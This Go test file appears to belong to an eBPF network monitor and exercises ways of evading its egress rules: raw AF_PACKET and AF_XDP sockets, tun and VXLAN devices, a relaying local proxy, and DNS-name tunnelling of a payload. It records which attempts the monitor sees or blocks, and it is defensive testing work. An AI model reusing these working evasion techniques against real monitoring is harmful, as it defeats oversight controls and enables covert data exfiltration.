package evasion

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"unsafe"

	"github.com/vishvananda/netlink"
	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"

	"snitch/bpf/bpftest"
	"snitch/bpf/features"
	"snitch/monitor/event"
)

// besideAttempts go where no program of these hooks runs, or have others send.
func besideAttempts() []attempt {
	const noHook = "the monitor: a row of family `packet`; frames pass no hook, and rules about addresses do not speak of such sockets. Needs CAP_NET_RAW on the host's network"
	return []attempt{
		{name: "packet-socket", does: "AF_PACKET: whole frames, and packets (`SOCK_DGRAM`)", result: seen, by: noHook, needs: []*bpftest.Feature{bpftest.AFPacket()},
			act: packetSocket(false), like: ofFamily(unix.AF_PACKET)},
		{name: "packet-bypass", does: "AF_PACKET with `PACKET_QDISC_BYPASS`", result: seen, by: noHook, needs: []*bpftest.Feature{bpftest.AFPacket()},
			act: packetSocket(true), like: ofFamily(unix.AF_PACKET)},
		{name: "xdp-socket", does: "AF_XDP: frames from a ring that is memory", result: seen, by: "the monitor looks for such sockets every ten seconds. Needs CAP_NET_RAW on the host's network",
			needs: []*bpftest.Feature{bpftest.AFXDP()}, act: xdpSocket, like: ofFamily(unix.AF_XDP), between: func(r *run) {
				if r.denied {
					eventually(r.T, "a record of the socket", func() bool { return r.lab.seen(r.attempt.like) })
				}
			}},
		{name: "packet-denied", does: "AF_PACKET, where a rule denies `proto: packet`; `proto: xdp` is the same", result: stopped, by: "BPF LSM, where it runs (`snitch doctor`): lsm/socket_create",
			needs: []*bpftest.Feature{bpftest.AFPacket()}, hooks: []features.Feature{features.LSM}, act: packetSocket(false),
			rules: "\nrules:\n  - {id: forbidden, action: deny, process: {exe: \"{attacker}\"}, to: {proto: [packet, xdp]}}\n"},
		{name: "packet-confined", does: "AF_PACKET by a confined program", result: stopped, by: "BPF LSM, where it runs: lsm/socket_create",
			needs: []*bpftest.Feature{bpftest.AFPacket()}, hooks: []features.Feature{features.LSM}, act: packetSocket(false),
			rules: "\nconfine:\n  - {id: locked, process: {exe: \"{attacker}\"}}\nrules:\n"},
		{name: "tun", does: "a tun device: packets that come in there and are forwarded", result: limit, by: "forwarded packets belong to no program. Needs CAP_NET_ADMIN and forwarding", act: tunDevice},
		{name: "tunnel-device", does: "a VXLAN device whose other end is the forbidden address", result: limit,
			by: "the packet inside is judged, the one around it is the kernel's. Needs CAP_NET_ADMIN; a confined program is refused the address inside", act: vxlanDevice},
		{name: "local-proxy", does: "a permitted proxy of this host (`ssh -D`, a web proxy)", result: limit, by: "the proxy sends, and is judged; rules about `scope: loopback` decide who may use it",
			help: proxy, act: func(p *place) error {
				return each(func() error { return viaProxy(p) })
			}},
		{name: "resolver-tunnel", does: "payload in the names that it asks a permitted resolver for", result: limit, by: "the resolver forwards it; the record shows names and volumes", rules: forbid, act: resolverTunnel},
	}
}

func ofFamily(family uint16) func(*event.Connection) bool {
	return func(c *event.Connection) bool {
		return c.Family == family && strings.HasSuffix(c.Process.Executable.Path, "/attacker")
	}
}

// frame is an Ethernet frame with a datagram for the forbidden peer.
func frame(p *place) ([]byte, *net.Interface, error) {
	link, err := net.InterfaceByName(bpftest.LinkName)
	if err != nil {
		return nil, nil, err
	}
	to, err := net.ParseMAC(p.MAC)
	if err != nil {
		return nil, nil, err
	}
	b := append(append(append([]byte{}, to...), link.HardwareAddr...), 0x08, 0x00)
	packet := ip4(p, nil, unix.IPPROTO_UDP, 0, udpPacket(p.V4.Port()))
	binary.BigEndian.PutUint16(packet[10:], checksum(packet[:20]))
	return append(b, packet...), link, nil
}

const etherHeader = 14

func bigEndian(v uint16) uint16 { return v<<8 | v>>8 }

func packetSocket(bypass bool) func(*place) error {
	return func(p *place) error {
		b, link, err := frame(p)
		if err != nil {
			return err
		}
		to := &unix.SockaddrLinklayer{Protocol: bigEndian(unix.ETH_P_IP), Ifindex: link.Index, Halen: 6}
		copy(to.Addr[:], b[:6])
		way := func(kind int, b []byte) func() error {
			return func() error {
				return with(unix.AF_PACKET, kind, 0, func(fd int) error {
					if bypass {
						if err := unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1); err != nil {
							return err
						}
					}
					return unix.Sendto(fd, b, 0, to)
				})
			}
		}
		return each(way(unix.SOCK_RAW, b), way(unix.SOCK_DGRAM, b[etherHeader:]))
	}
}

// xdpSocket sends one frame from its ring.
func xdpSocket(p *place) error {
	const frames, frameBytes = 64, 4096
	b, link, err := frame(p)
	if err != nil {
		return err
	}
	return withXDP(func(fd int) error {
		mem, err := unix.Mmap(-1, 0, frames*frameBytes, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
		if err != nil {
			return err
		}
		copy(mem, b)
		reg := unix.XDPUmemReg{Addr: uint64(uintptr(unsafe.Pointer(&mem[0]))), Len: uint64(len(mem)), Size: frameBytes}
		if _, _, errno := unix.Syscall6(unix.SYS_SETSOCKOPT, uintptr(fd), unix.SOL_XDP, unix.XDP_UMEM_REG, uintptr(unsafe.Pointer(&reg)), unsafe.Sizeof(reg), 0); errno != 0 {
			return fmt.Errorf("register frames: %w", errno)
		}
		for _, ring := range []int{unix.XDP_UMEM_FILL_RING, unix.XDP_UMEM_COMPLETION_RING, unix.XDP_TX_RING} {
			if err := unix.SetsockoptInt(fd, unix.SOL_XDP, ring, frames); err != nil {
				return fmt.Errorf("set ring %d: %w", ring, err)
			}
		}
		var off unix.XDPMmapOffsets
		size := uint32(unsafe.Sizeof(off))
		if _, _, errno := unix.Syscall6(unix.SYS_GETSOCKOPT, uintptr(fd), unix.SOL_XDP, unix.XDP_MMAP_OFFSETS, uintptr(unsafe.Pointer(&off)), uintptr(unsafe.Pointer(&size)), 0); errno != 0 {
			return fmt.Errorf("read offsets: %w", errno)
		}
		tx, err := unix.Mmap(fd, unix.XDP_PGOFF_TX_RING, int(off.Tx.Desc)+frames*int(unsafe.Sizeof(unix.XDPDesc{})), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
		if err != nil {
			return fmt.Errorf("map ring: %w", err)
		}
		defer unix.Munmap(tx)
		if err := unix.Bind(fd, &unix.SockaddrXDP{Flags: unix.XDP_COPY, Ifindex: uint32(link.Index)}); err != nil {
			return fmt.Errorf("bind: %w", err)
		}
		*(*unix.XDPDesc)(unsafe.Pointer(&tx[off.Tx.Desc])) = unix.XDPDesc{Len: uint32(len(b))}
		atomic.StoreUint32((*uint32)(unsafe.Pointer(&tx[off.Tx.Producer])), 1)
		if err := unix.Sendto(fd, nil, unix.MSG_DONTWAIT, nil); err != nil {
			return fmt.Errorf("kick: %w", err)
		}
		return pause()
	})
}

func withXDP(f func(fd int) error) error {
	fd, err := unix.Socket(unix.AF_XDP, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open socket: %w", err)
	}
	defer unix.Close(fd)
	return f(fd)
}

// tunDevice writes a packet as if it came from behind a device.
func tunDevice(p *place) error {
	fd, err := unix.Open("/dev/net/tun", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open tun: %w", err)
	}
	defer unix.Close(fd)
	request, err := unix.NewIfreq("evade0")
	if err != nil {
		return err
	}
	request.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
	if err := unix.IoctlIfreq(fd, unix.TUNSETIFF, request); err != nil {
		return fmt.Errorf("make device: %w", err)
	}
	link, err := netlink.LinkByName("evade0")
	if err != nil {
		return err
	}
	addr := &netlink.Addr{IPNet: &net.IPNet{IP: net.IPv4(10, 88, 0, 1), Mask: net.CIDRMask(24, 32)}}
	if err := errors.Join(netlink.AddrAdd(link, addr), netlink.LinkSetUp(link), os.WriteFile("/proc/sys/net/ipv4/ip_forward", []byte("1"), 0)); err != nil {
		return fmt.Errorf("set up device: %w", err)
	}
	b := ip4(p, nil, unix.IPPROTO_UDP, 0, udpPacket(p.V4.Port()))
	copy(b[12:], net.IPv4(10, 88, 0, 2).To4())
	binary.BigEndian.PutUint16(b[10:], checksum(b[:20]))
	if _, err := unix.Write(fd, b); err != nil {
		return fmt.Errorf("write packet: %w", err)
	}
	return nil
}

// vxlanDevice has the kernel wrap its packets.
func vxlanDevice(p *place) error {
	under, err := netlink.LinkByName(bpftest.LinkName)
	if err != nil {
		return err
	}
	attrs := netlink.NewLinkAttrs()
	attrs.Name = "evade1"
	device := &netlink.Vxlan{LinkAttrs: attrs, VxlanId: 7, VtepDevIndex: under.Attrs().Index, Group: p.V4.Addr().AsSlice(), Port: 4789}
	if err := netlink.LinkAdd(device); err != nil {
		return fmt.Errorf("make device: %w", err)
	}
	defer func() { _ = netlink.LinkDel(device) }()
	inside := netip.MustParseAddr("10.99.0.2")
	addr := &netlink.Addr{IPNet: &net.IPNet{IP: net.IPv4(10, 99, 0, 1), Mask: net.CIDRMask(24, 32)}}
	neighbour := &netlink.Neigh{LinkIndex: device.Attrs().Index, State: netlink.NUD_PERMANENT, Family: netlink.FAMILY_V4,
		IP: inside.AsSlice(), HardwareAddr: net.HardwareAddr{2, 0, 0, 0, 0, 7}}
	if err := errors.Join(netlink.AddrAdd(device, addr), netlink.LinkSetUp(device), netlink.NeighSet(neighbour)); err != nil {
		return fmt.Errorf("set up device: %w", err)
	}
	to := netip.AddrPortFrom(inside, p.V4.Port())
	return datagram(to, func(fd int) error { return sendto(fd, 0, to) })
}

func proxySocket(p *place) string { return filepath.Join(p.Dir, "proxy") }

// proxy relays what it is told to the forbidden peer.
func proxy(p *place) error {
	ln, err := net.Listen("unix", proxySocket(p))
	if err != nil {
		return err
	}
	kept = append(kept, ln)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		out, err := net.Dial("tcp", p.V4.String())
		if err != nil {
			return
		}
		defer out.Close()
		_, _ = io.Copy(out, c)
	}()
	return nil
}

func viaProxy(p *place) error {
	c, err := net.Dial("unix", proxySocket(p))
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write(payload)
	return err
}

// resolverTunnel asks for names that nobody has.
func resolverTunnel(p *place) error {
	label := strings.Repeat("secret", 10)
	name, err := dnsmessage.NewName(strings.Join([]string{"tunnel", label, label, label, "example."}, "."))
	if err != nil {
		return err
	}
	_, err = ask(p.OpenV4.Addr(), name.String())
	return err
}
